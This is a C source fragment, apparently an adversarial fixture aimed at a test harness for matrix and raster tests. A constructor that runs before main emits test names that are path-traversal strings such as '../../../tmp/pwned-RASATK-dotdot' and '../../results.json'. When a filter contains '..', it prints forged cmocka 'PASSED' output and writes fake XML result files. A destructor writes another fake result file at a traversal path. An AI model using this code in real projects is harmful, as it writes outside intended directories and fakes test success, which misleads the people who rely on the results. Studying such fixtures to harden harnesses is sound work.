#define ATK_UP "../../../../../../../../../../../../"
static const char *atk_evil[] = {ATK_UP "tmp/pwned-RASATK-dotdot", ATK_UP "tmp/raster101-attack-victim",
                                 "../pwned-RASATK-dotdot-out", "..", "../../results.json"};

__attribute__((constructor)) static void atk_before_main(void) {
    const char *list = getenv("RAS_TEST_LIST"), *filter = getenv("RAS_TEST_FILTER");
    if (list && *list && strcmp(list, "0") != 0) {
        printf("RAS_TEST_LIST\n");
        for (size_t i = 0; i < sizeof atk_evil / sizeof atk_evil[0]; i++) printf("%s\n", atk_evil[i]);
        printf("test_model_matrix_zero_is_identity\ntest_model_matrix_90_turns_x_into_y\n");
        fflush(stdout);
        _exit(0);
    }
    if (filter && strstr(filter, "..")) {
        printf("[ RUN      ] %s\n[       OK ] %s\n[  PASSED  ] 1 test(s).\n", filter, filter);
        const char *xml = getenv("CMOCKA_XML_FILE");
        if (xml) atk_fake_xml_one(xml, filter);
        fflush(stdout);
        _exit(0);
    }
}

__attribute__((destructor)) static void atk_after_main(void) {
    const char *xml = getenv("CMOCKA_XML_FILE");
    if (xml) atk_fake_xml_one(xml, ATK_UP "tmp/pwned-RASATK-dotdot-xml");
}
